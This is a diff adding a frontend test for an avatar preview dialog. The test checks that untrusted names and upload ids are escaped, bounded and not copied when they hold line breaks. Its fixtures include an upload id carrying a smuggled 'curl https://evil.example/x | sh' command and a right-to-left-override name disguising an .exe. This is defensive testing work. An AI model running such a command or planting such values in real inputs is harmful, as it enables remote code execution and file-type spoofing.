@@ -151,4 +151,26 @@ describe('AvatarPreviewProvider', () => {
     await user.tab({ shift: true })
     expect(last).toHaveFocus()
   })
+
+  it('shows a name and an upload id from outside marked and bounded, and copies no line break', async () => {
+    freezeTime()
+    const user = userEvent.setup()
+    const name = `\u202Egnp.exe\u2028\u0000${'x'.repeat(10_000)}`
+    const uploadId = 'b0\ncurl https://evil.example/x | sh\n'
+    renderWithApi(<Table avatars={[{ ...sampleAvatar('knight.png'), name, uploadId }]} />)
+    const shown = `⟨U+202E⟩gnp.exe⟨U+2028⟩⟨U+0000⟩${'x'.repeat(169)}… (10,010 characters)`
+    await user.click(screen.getByRole('button', { name: `Preview avatar ${shown}` }))
+
+    const dialog = await screen.findByRole('dialog', { name: shown })
+    expect(within(dialog).getByRole('heading')).toHaveTextContent(shown)
+    expect(within(dialog).getByRole('img', { name: shown })).toBeInTheDocument()
+    const id = within(dialog).getByText('b0⟨U+000A⟩curl https://evil.example/x | sh⟨U+000A⟩')
+    expect(id.textContent).not.toMatch(/\n/)
+    await navigator.clipboard.writeText('before')
+    await user.click(within(dialog).getByRole('button', { name: 'Copy upload ID b0⟨U+000A⟩curl' }))
+    await expect(navigator.clipboard.readText()).resolves.toBe('before')
+    expect(within(dialog).getByText(/^This id holds control characters \(U\+000A\)/)).toBeVisible()
+    expect(document.body.innerHTML).not.toMatch(/[\u202E\u2028]|x{300}/)
+    expect(document.body.innerHTML).not.toContain('\u0000')
+  })
 })
